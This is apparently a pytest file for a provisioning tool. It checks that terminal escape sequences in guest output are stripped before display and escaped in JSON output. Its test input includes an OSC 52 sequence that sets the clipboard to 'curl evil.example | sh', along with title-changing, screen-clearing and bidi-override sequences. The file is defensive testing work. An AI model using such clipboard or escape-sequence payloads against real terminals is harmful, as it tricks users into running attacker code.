"""The guest's output in error details reaches the user's terminal inert, and --json escaped."""

from __future__ import annotations

import io
import json

import pytest
from rich.console import Console

from provisioner.display import Display, terminal_safe
from provisioner.errors import CommandFailed
from provisioner.events import CONTROL_RE, ConsoleLine, Error, Note
from provisioner.jsonlines import JsonLines

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to 'curl evil.example | sh'
GUEST = (
    "error: target not found: bsae\n"
    f"\x1b[1;31mred\x1b[0m {OSC52} title\x1b]0;owned\x1b\\ \x9b2J \x1bc \x1bP1$qm\x1b\\ bell\x07 "
    "\u202eevil\u202c tab\tend"
)


def drawn(*events: Error | Note | ConsoleLine, terminal: bool = False, verbose: bool = False) -> str:
    buffer = io.StringIO()
    display = Display(Console(file=buffer, force_terminal=terminal, width=400, color_system=None), verbose=verbose)
    for event in events:
        display(event)
    return buffer.getvalue()


def error_from_the_guest() -> Error:
    failed = CommandFailed("pacstrap -K /mnt base", 1, GUEST, hint=f"see {OSC52}")
    return Error(failed.message + OSC52, failed.hint, int(failed.exit_code), failed.details())


@pytest.mark.parametrize("terminal", [False, True])
def test_guest_escape_sequences_never_reach_the_terminal(terminal: bool) -> None:
    shown = drawn(error_from_the_guest(), Note(f"cached x removed: {OSC52}"), terminal=terminal)
    # (No colours, so that any escape sequence in the output would be the guest's.)
    assert "\x1b" not in shown and not CONTROL_RE.search(shown), repr(shown)
    for payload in ("52;c;", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA", "0;owned", "2J", "$qm"):
        assert payload not in shown
    # What the user needs stays: the text and its lines; what was a control shows as U+FFFD.
    assert "error: target not found: bsae\nred  title" in shown
    assert "bell\ufffd \ufffdevil\ufffd tab" in shown
    assert "error:" in shown and "hint:" in shown


def test_console_lines_in_verbose_mode_are_inert_too() -> None:
    shown = drawn(ConsoleLine(f"pacman {OSC52}\x1b[2Jdone"), verbose=True)
    assert shown == "    pacman done\n"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain\ttext\nnext", "plain\ttext\nnext"),
        ("a\r\nb", "a\nb"),
        ("\x1b[38;5;196mred\x1b[m", "red"),
        (f"x{OSC52}y", "xy"),
        ("x\x1b]52;c;cut off", "x"),  # an OSC the output's tail cut before its end
        ("x\x1b]8;;http://e\x1b\\link\x1b]8;;\x1b\\", "xlink"),  # a hyperlink
        ("x\x9d0;title\x9cy", "xy"),  # 8-bit OSC and ST
        ("\x1b7\x1b8\x1b=", ""),  # two-byte sequences
        ("a\x00b\x07c\x7fd\x85e", "a\ufffdb\ufffdc\ufffdd\ufffde"),
        ("\u2066ltr\u2069", "\ufffdltr\ufffd"),
        ("löwe 日本", "löwe 日本"),
    ],
)
def test_terminal_safe(text: str, expected: str) -> None:
    assert terminal_safe(text) == expected


def test_json_errors_are_valid_json_with_every_control_escaped() -> None:
    buffer = io.StringIO()
    event = error_from_the_guest()
    JsonLines(buffer)(event)
    (line,) = buffer.getvalue().splitlines()
    assert not CONTROL_RE.search(line) and "\x1b" not in line, repr(line)
    assert "\\u001b]52;c;" in line and "\\u009b2J" in line and "\\u202e" in line
    # The data is the guest's text as it was: escaped, not lost.
    assert json.loads(line) == {**event.to_json(), "type": "error"}
    assert json.loads(line)["details"] == event.details
